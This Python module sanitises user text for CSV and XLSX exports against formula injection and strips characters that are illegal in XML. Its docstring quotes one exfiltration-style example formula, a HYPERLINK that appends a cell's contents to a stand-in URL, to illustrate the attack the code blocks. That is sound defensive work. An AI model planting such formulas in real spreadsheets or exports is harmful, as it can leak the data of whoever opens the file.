"""What users typed, made safe for the files Rumbo writes: spreadsheet cells (CSV, XLSX) that
cannot become formulas, and text that XML-based documents (DOCX, XLSX) can hold.

Formula injection (OWASP "CSV Injection"; ASVS 5, 1.2.10): a spreadsheet reads a cell that begins
with `=`, `+`, `-`, `@`, a tab, a carriage return or NUL as a formula, so a project titled
`=HYPERLINK("http://x/?"&A1,"ver")` would run on the computer of whoever opens the export. The
rule, decided once here:

* Text that begins with one of those characters is neutralised: in CSV an apostrophe is put in
  front (`'=HYPERLINK(…)`), which every spreadsheet shows as text; in XLSX the cell is written as
  text with Excel's own "quote prefix" mark, which is what Excel stores when someone types an
  apostrophe: the value stays exact and editing the cell does not turn it into a formula.
* Numbers are never touched. Real numbers (int, float, Decimal) stay numbers, negative ones
  included. Text that is nothing but a number ("-5", "-1.250.000,50", as the CSV exports write
  amounts with a decimal comma) is left alone too: a spreadsheet reads it as a constant, there is
  nothing to run, and prefixing it would turn every negative amount into text that no sum counts.
* A Rumbo import takes the apostrophe off again (`csv_cell_unquote`), so export → import gives
  back the same text. Text that itself begins with an apostrophe before such a character (or
  before another apostrophe) gets one more, so that round trip stays exact too.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\x00")
_NUMBER = re.compile(r"[+-]?(?:\d[\d.,]*|[.,]\d+)(?:[eE][+-]?\d+)?")
# What XML 1.0 cannot hold (python-docx and openpyxl raise on it; it only ever arrives by
# accident, pasted from another program): C0 controls other than tab, newline and carriage
# return; the non-characters U+FFFE and U+FFFF; lone surrogates.
_XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]")


def text_printable(value: str) -> str:
    """`value` without the characters XML cannot hold (vertical tab, NUL, form feed …): the one
    cleaning every DOCX and XLSX writer applies to user text. Tabs and line breaks stay."""
    return _XML_ILLEGAL.sub("", value)


def formula_like(text: str) -> bool:
    """Whether a spreadsheet would read this text as the start of a formula (see the module)."""
    return text.startswith(FORMULA_STARTS) and _NUMBER.fullmatch(text) is None


def _needs_apostrophe(text: str) -> bool:
    return formula_like(text) or (
        len(text) > 1 and text[0] == "'" and (text[1] == "'" or formula_like(text[1:]))
    )


def csv_cell(value: Any) -> Any:
    """A value for csv.writer: text neutralised (and cleaned of control characters), anything
    else — numbers, None — as it is."""
    if not isinstance(value, str):
        return value
    text = text_printable(value)
    return "'" + text if _needs_apostrophe(text) else text


def csv_row(values: list[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


class SafeCsvWriter:
    """csv.writer whose every cell goes through csv_cell: an export cannot forget one."""

    def __init__(self, out: IO[str], **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(csv_row(list(row)))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: IO[str], **options: Any) -> SafeCsvWriter:
    """The CSV writer of every export (same options as csv.writer)."""
    return SafeCsvWriter(out, **options)


def csv_cell_unquote(text: str) -> str:
    """The inverse of csv_cell, for importers of Rumbo's own CSV: one apostrophe off text that
    csv_cell would have prefixed. Any other leading apostrophe is the user's and stays."""
    if len(text) > 1 and text[0] == "'" and _needs_apostrophe(text[1:]):
        return text[1:]
    return text


def xlsx_cell(ws: Any, value: Any) -> Any:
    """A value for `ws.append` (openpyxl, normal or write-only sheet): text cleaned of control
    characters, and text that starts like a formula written as text with the quote prefix.
    Numbers, dates and None pass through (openpyxl writes Decimal as a number)."""
    if not isinstance(value, str):
        return value
    text = text_printable(value)
    if not formula_like(text):
        return text
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(ws, value=text)
    cell.data_type = "s"  # openpyxl would otherwise store "=…" as a formula
    cell.quotePrefix = True
    return cell


def xlsx_row(ws: Any, values: list[Any]) -> list[Any]:
    return [xlsx_cell(ws, v) for v in values]
